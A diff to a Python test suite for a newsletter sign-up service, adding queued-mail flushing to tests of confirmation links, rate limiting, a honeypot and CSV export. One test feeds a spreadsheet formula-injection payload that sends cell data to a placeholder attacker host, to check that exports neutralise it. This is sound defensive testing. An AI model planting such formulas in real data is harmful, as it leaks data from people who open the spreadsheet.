@@ -99,6 +99,7 @@ def test_a_kept_confirmation_link_never_activates_a_later_sign_up(
     kept = signup_and_link(client, smtp_server, "mallory@example.com")
     remove_subscriber(store, "mallory@example.com")
     assert client.post_form("/subscribe", {"email": "victim@example.com"}).status == 202
+    client.send_queued()
 
     assert client.call("POST", kept).status == 404
     assert status_of(store, "victim@example.com")[0] == "pending"
@@ -246,6 +247,7 @@ def test_a_pending_sign_up_changes_only_through_its_link(
     client.send_queued()
     evil = {"email": "zoe@example.com", "name": "Mallory", "categories": "spam"}
     assert client.post_form("/subscribe", evil).status == 202
+    client.send_queued()
     row = find_subscriber(store, "zoe@example.com")
     assert row is not None
     assert (row.status, row.name, row.categories) == ("pending", "Zoë", ("rust",))
@@ -283,6 +285,7 @@ def test_the_per_client_limit_counts_the_real_client_behind_a_trusted_proxy(
         statuses += [post(f"b{i}@example.com", "10.1.2.3", "192.0.2.200") for i in range(4)]
         statuses += [post("c@example.com", "10.1.2.3", "1.2.3.4, 192.0.2.201")]
         assert set(statuses) == {202}
+        client.send_queued()
         emails = {row.email for row in list_subscribers(store)}
         assert emails == {f"a{i}@example.com" for i in range(3)} | {
             f"b{i}@example.com" for i in range(3)
@@ -299,6 +302,7 @@ def test_the_honeypot_field_is_answered_alike_and_ignored(
     robot = client.post_form("/subscribe", {"email": "r@example.com", "website": "http://x"})
     person = client.post_form("/subscribe", {"email": "p@example.com", "website": ""})
     assert (robot.status, robot.body) == (person.status, person.body)
+    client.send_queued()
     assert find_subscriber(store, "r@example.com") is None
     assert find_subscriber(store, "p@example.com") is not None
 
@@ -311,6 +315,7 @@ def test_export_neutralises_formulas_and_import_keeps_data_as_given(
 ) -> None:
     formula = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
     assert client.post_form("/subscribe", {"email": "x@example.com", "name": formula}).status == 202
+    client.send_queued()
     add_subscriber(store, "y@example.com", name="+1 555", categories=["-dash", "@at", "ok"])
     add_subscriber(store, "z@example.com", name="Plain Name")
     out = io.StringIO()
